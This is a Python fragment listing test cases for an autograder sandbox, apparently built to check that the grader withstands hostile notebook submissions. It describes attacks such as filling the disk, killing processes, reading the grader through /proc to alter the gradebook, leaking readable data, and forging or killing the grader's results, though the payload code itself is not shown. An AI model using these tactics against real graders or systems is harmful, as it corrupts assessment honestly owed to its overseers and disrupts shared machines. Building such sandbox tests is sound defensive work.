    Attack("fills_disk", "correct answers; writes 320 MB to /tmp, HOME, /dev/shm, /var/tmp, "
           "its own folder and the course root", append={"linear_activation_forward": FILL_DISK}),
    Attack("kills_processes", "correct answers; a last cell kills its parent and every "
           "process it can see", last_cell=KILL_PROCESSES),
    Attack("reads_grader_proc", "correct answers; looks for the grader in /proc and writes "
           "to the gradebook through /proc/<pid>/cwd and /root",
           append={"update_parameters": GRADER_PROC}),
    # What the kernel can read, shown every way a student could get it back.
    Attack("prints_what_it_reads", "nothing implemented; prints every file, variable, process "
           "and object it can find", base="untouched",
           append={"initialize_parameters": PRINT_FOUND}),
    Attack("raises_what_it_reads", "nothing implemented; raises an exception carrying what "
           "it can find", base="untouched", append={"initialize_parameters": RAISE_FOUND}),
    Attack("writes_what_it_reads", "nothing implemented; writes what it can find into a file "
           "next to its notebook", base="untouched", append={"linear_forward": WRITE_FOUND}),
    Attack("displays_what_it_reads", "nothing implemented; shows what it can find as HTML and "
           "inside an image", base="untouched", append={"compute_cost": DISPLAY_FOUND}),
    # Attacks on the grader's own process, which runs the answer cells outside the kernel.
    Attack("forges_grader_answers", "correct answers but update_parameters, which writes "
           "forged results and garbage to the grader's pipe",
           answers={"update_parameters": FORGED_UPDATE}, faked=("update_parameters",),
           closed_by=GRADER),
    Attack("kills_grader_process", "correct answers; linear_backward kills the grader's "
           "process it runs in", answers={"linear_backward": KILLS_GRADER},
           faked=("linear_backward",), closed_by=GRADER),
    Attack("ignores_grader_alarm", "correct answers; compute_cost ignores the grader's alarm "
           "and loops", answers={"compute_cost": IGNORES_ALARM}, faked=("compute_cost",),
           closed_by=GRADER),
)
